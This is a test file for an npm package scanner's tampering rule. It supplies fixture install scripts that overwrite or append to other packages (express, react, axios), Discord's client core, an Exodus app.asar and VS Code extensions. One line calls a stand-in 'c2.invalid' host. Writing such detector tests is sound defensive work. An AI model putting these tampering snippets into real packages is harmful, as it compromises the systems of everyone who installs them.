import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'tampering';
const FS = "const fs = require('fs'); const path = require('path'); const os = require('os');\n";

describe('tampering reports', () => {
  test.each([
    ['appending to a package found with require.resolve', "const target = path.join(path.dirname(require.resolve('express')), 'lib', 'router', 'index.js');\nfs.appendFileSync(target, \"\\nrequire('https').get('https://c2.invalid/x')\");", 'express'],
    ['overwriting a sibling package beside this one', "fs.writeFileSync(path.join(__dirname, '..', 'lodash', 'lodash.js'), 'module.exports = {}');", 'lodash'],
    ['a node_modules path under the project', "fs.copyFileSync(path.join(__dirname, 'x.js'), path.join(process.cwd(), 'node_modules', '@types', 'node', 'index.js'));", '@types/node'],
    ['an Electron app.asar', "const p = path.join(process.env.LOCALAPPDATA || '', 'Programs', 'exodus', 'resources', 'app.asar');\nfs.writeFileSync(p, fs.readFileSync(path.join(__dirname, 'a.bin')));", 'Electron'],
    ['the Discord client core', "const core = path.join(os.homedir(), 'AppData', 'Roaming', 'discord', '1.0.9013', 'modules', 'discord_desktop_core', 'index.js');\nfs.writeFileSync(core, 'module.exports = require(\"./core.asar\")');", 'Discord'],
    ['a VS Code extension', "fs.writeFileSync(path.join(os.homedir(), '.vscode', 'extensions', 'ms-python.python-2025.1.0', 'out', 'client', 'extension.js'), 'x');", 'editor extension'],
    ['a global npm package', "fs.writeFileSync('/usr/local/lib/node_modules/npm/lib/cli.js', 'x');", 'globally installed'],
    ['chmod of another package binary', "fs.chmodSync(path.join(__dirname, '..', 'esbuild', 'bin', 'esbuild'), 0o777);", 'esbuild'],
    ['a shell copy into another package', "require('child_process').execSync('cp ./payload.js node_modules/react/index.js');", 'react'],
  ])('%s from a postinstall script is critical and malicious', (_label, code, victim) => {
    const r = scanFiles({ 'package.json': manifest({ name: 'helper-pkg', scripts: { postinstall: 'node p.js' } }), 'p.js': FS + code });
    expect(r.of(RULE)).toEqual([finding('critical', ['tamper'], { reach: 'install', message: expect.stringMatching(new RegExp(`helper-pkg .*${victim}`)) })]);
    expect(r.verdict).toBe('malicious');
  });

  test('an install script line that copies into another package', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'helper-pkg', scripts: { postinstall: 'cp -f lib/hook.js ../axios/index.js' } }) });
    expect(r.of(RULE)).toEqual([finding('critical', ['tamper'], { message: expect.stringContaining('"axios"') })]);
    expect(r.verdict).toBe('malicious');
  });

  test('on load from the main module is high and malicious', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'helper-pkg' }), 'index.js': FS + "fs.appendFileSync(path.join(path.dirname(require.resolve('axios')), 'index.js'), ';require(\"./x\")');\nmodule.exports = 1;" });
    expect(r.of(RULE)).toEqual([finding('high', ['tamper'], { reach: 'import' })]);
    expect(r.verdict).toBe('malicious');
  });
});

describe('tampering stays quiet', () => {
  test('a patching tool the user runs (bin) is low and clean', () => {
    const r = scanFiles({
      'package.json': manifest({ name: 'patcher', bin: { patcher: 'cli.js' } }),
      'cli.js': FS + "const file = path.join(process.cwd(), 'node_modules', process.argv[2], 'index.js');\nfs.writeFileSync(path.join(process.cwd(), 'node_modules', 'left-pad', 'index.js'), fs.readFileSync(process.argv[3]));",
    });
    expect(r.of(RULE).every((f) => f.severity === 'low')).toBe(true);
    expect(r.verdict).toBe('clean');
  });

  test('an Electron build tool writing app.asar inside a function is low and clean', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'builder' }), 'index.js': FS + "module.exports = function pack(out, data) { fs.writeFileSync(path.join(out, 'resources', 'app.asar'), data); };" });
    expect(r.of(RULE).every((f) => f.severity === 'low')).toBe(true);
    expect(r.verdict).toBe('clean');
  });

  test.each([
    ['its own folder under node_modules', "fs.writeFileSync(path.join(process.cwd(), 'node_modules', 'helper-pkg', 'bin', 'tool'), 'x');"],
    ['its own files', "fs.writeFileSync(path.join(__dirname, 'lib', 'binding.node'), Buffer.alloc(1)); fs.chmodSync(path.join(__dirname, 'bin', 'tool'), 0o755);"],
    ['the node_modules/.cache folder', "fs.rmSync(path.join(process.cwd(), 'node_modules', '.cache', 'helper'), { recursive: true, force: true });"],
    ['reading another package', "const src = fs.readFileSync(path.join(path.dirname(require.resolve('@esbuild/linux-x64/package.json')), 'bin', 'esbuild')); fs.writeFileSync(path.join(__dirname, 'bin', 'esbuild'), src);"],
  ])('writing %s at install', (_label, code) => {
    const r = scanFiles({ 'package.json': manifest({ name: 'helper-pkg', scripts: { postinstall: 'node p.js' } }), 'p.js': FS + code });
    expect(r.of(RULE)).toEqual([]);
  });
});
